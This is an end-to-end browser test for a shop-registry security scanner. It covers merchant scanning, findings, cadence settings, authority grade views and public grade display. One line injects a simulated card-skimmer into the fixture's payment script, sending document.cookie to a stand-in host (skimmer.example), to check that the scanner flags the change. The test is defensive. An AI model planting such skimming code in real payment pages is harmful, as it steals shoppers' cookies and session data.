// The scanner in a real browser (Debian's Chromium) against the full server, with a shop
// confirmed through the registry's real flow and its HTTPS site on loopback really scanned
// (src/modules/scanner/e2e.testing.ts). The merchant finds its website, declares a payment page,
// scans now, reads the findings with fix text and configuration examples and the script
// inventory, scans again after a payment-page script changed and sees the change, sets a
// shorter interval, reads it all in English; the authority reads the grade distribution and
// scans on demand; anyone sees the grade on the public registry page. axe-core on every page,
// no CSP violation.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { Page } from "playwright-core";
import { startScannerE2e, type ScannerE2e } from "../modules/scanner/e2e.testing.ts";
import { DEMO_PASSWORD } from "../demo.ts";
import { scannerTextEn as en, scannerTextZh as s } from "../web/pages/scanner/text.ts";
import { zhTW } from "../web/i18n/zh-TW.ts";
import { launchBrowser, type Browser, type Person, signIn as signInAs, assertAccessible as accessible } from "./browser.ts";
import { DEMO_AUTHORITY } from "./demo-accounts.ts";

let e: ScannerE2e;
let browser: Browser;
let merchant: Person;
let authority: Person;
let visitor: Person;

before(async () => {
  e = await startScannerE2e({ merchant: "owner@shop3.example" });
  browser = await launchBrowser();
  merchant = await browser.person();
  authority = await browser.person();
  visitor = await browser.person();
});

after(async () => {
  await (browser as Browser | undefined)?.close();
  await (e as ScannerE2e | undefined)?.close();
});

async function signIn(page: Page, email: string, password: string, totpSecret?: string): Promise<void> {
  await signInAs(page, { url: e.ts.url, email, password, totp: totpSecret ? () => e.ts.totp(totpSecret) : undefined });
}

/** Clicks "scan now" and waits until the history's newest row is a finished scan. */
async function scanNow(page: Page, rowsBefore: number): Promise<void> {
  await page.getByRole("button", { name: s.origin.scanNow, exact: true }).click();
  const rows = page.locator("section:has(#scanner-history-title) tbody tr");
  for (let i = 0; (await rows.count()) <= rowsBefore; i++) {
    if (i > 600) throw new Error("the scan never appeared in the history");
    await page.waitForTimeout(100);
  }
  await rows.first().filter({ hasText: s.origin.status.done }).waitFor({ timeout: 60_000 });
}

test("the merchant scans its confirmed website and reads what to fix", async () => {
  const { page } = merchant;
  await signIn(page, e.merchantEmail, DEMO_PASSWORD);
  // the start page offers the scanner as a task, not as a module still to come
  assert.equal(await page.getByText(zhTW.home.moduleBody.scanner).count(), 0);
  await page.getByRole("region", { name: zhTW.home.tasks }).getByRole("link", { name: s.nav.scanner }).click();
  await page.getByRole("heading", { level: 1, name: s.shop.title }).waitFor();
  await accessible(page, "scanner: my websites");
  await page.getByRole("link", { name: e.origin, exact: true }).click();
  await page.getByRole("heading", { level: 1, name: e.origin }).waitFor();
  await accessible(page, "scanner: origin before any scan");

  await page.getByLabel(s.origin.paymentPagesLabel, { exact: true }).fill(`${e.origin}/checkout`);
  await page.getByRole("button", { name: s.origin.savePages, exact: true }).click();
  await page.getByText(s.origin.saved).waitFor();

  const rows = await page.locator("section:has(#scanner-history-title) tbody tr").count();
  await scanNow(page, rows);
  await page.getByRole("heading", { level: 2, name: s.origin.findings }).waitFor();
  await page.getByText(s.origin.fix, { exact: true }).first().waitFor();
  const snippets = page.locator("details summary").first();
  await snippets.click();
  await page.locator("details[open] pre code").first().waitFor();
  await page.getByText(`${e.origin}/pay.js`, { exact: true }).waitFor(); // the script inventory
  await page.getByText(s.origin.noDiff).waitFor();
  await accessible(page, "scanner: origin with findings");

  // a skimmer lands in the first-party payment script; the next scan shows it
  e.site.payJs = "pay(); new Image().src = 'https://skimmer.example/c?' + document.cookie;";
  await scanNow(page, rows + 1);
  await page.getByText(`${s.origin.alertKind["payment-script-changed"]}: ${e.origin}/checkout · ${e.origin}/pay.js`).waitFor();
  await accessible(page, "scanner: origin with a difference");

  await page.getByLabel(s.origin.cadenceLabel, { exact: true }).fill("30");
  await page.getByRole("button", { name: s.origin.saveCadence, exact: true }).click();
  await page.locator(".field-error").first().waitFor(); // longer than the default: only the authority
  await page.getByLabel(s.origin.cadenceLabel, { exact: true }).fill("3");
  await page.getByRole("button", { name: s.origin.saveCadence, exact: true }).click();
  await page.getByText(s.origin.days.replace("{{n}}", "3")).waitFor();
  await accessible(page, "scanner: cadence");

  await page.locator("button.lang-switch").click();
  await page.getByRole("heading", { level: 2, name: en.origin.findings }).waitFor();
  await page.getByText(`${en.origin.alertKind["payment-script-changed"]}: ${e.origin}/checkout`).waitFor();
  await accessible(page, "scanner: origin in English");
  await page.locator("button.lang-switch").click();
  assert.deepEqual(merchant.problems, []);
  const mail = await e.ts.mail.waitFor((m) => m.to === e.merchantEmail && m.subject.includes(e.origin));
  assert.match(mail.text, /pay\.js/);
});

test("the authority reads the grade distribution and scans a shop on demand", async () => {
  const { page } = authority;
  await signIn(page, DEMO_AUTHORITY.email, DEMO_AUTHORITY.password, DEMO_AUTHORITY.totpSecret);
  assert.equal(await page.getByText(zhTW.home.moduleBody.scanner).count(), 0);
  await page.getByRole("region", { name: zhTW.home.tasks }).getByRole("link", { name: s.nav.grades }).click();
  await page.getByRole("heading", { level: 1, name: s.dist.title }).waitFor();
  await page.getByRole("cell", { name: "1" }).first().waitFor();
  await accessible(page, "scanner: grade distribution");
  await page.getByLabel(s.dist.filter, { exact: true }).selectOption("unscanned");
  await page.getByText(s.dist.noMatch).waitFor();
  await page.getByLabel(s.dist.filter, { exact: true }).selectOption("");
  await page.getByRole("link", { name: e.origin, exact: true }).click();
  await page.getByRole("heading", { level: 1, name: e.origin }).waitFor();
  const rows = await page.locator("section:has(#scanner-history-title) tbody tr").count();
  await scanNow(page, rows);
  await page.getByText(s.origin.trigger.authority).first().waitFor();
  await accessible(page, "scanner: origin (authority)");
  assert.deepEqual(authority.problems, []);
});

test("anyone sees the scan grade on the shop's public registry page; /privacy is readable", async () => {
  const { page } = visitor;
  const grade = await e.ts.server.services.scanner.getLatestGrade({ shopId: e.shopId });
  assert.ok(grade);
  await page.goto(`${e.ts.url}/registry/shops/${e.shopId}`);
  await page.getByRole("heading", { level: 2, name: s.public.title }).waitFor();
  await page.locator("section:has(#scanner-grade-title) .badge", { hasText: grade.grade }).waitFor();
  await accessible(page, "public shop page with grade");
  await page.getByRole("link", { name: "隱私權政策" }).click();
  await page.getByRole("heading", { level: 1, name: "隱私權政策與個人資料蒐集告知事項" }).waitFor();
  await accessible(page, "privacy notice");
  assert.deepEqual(visitor.problems, []);
});
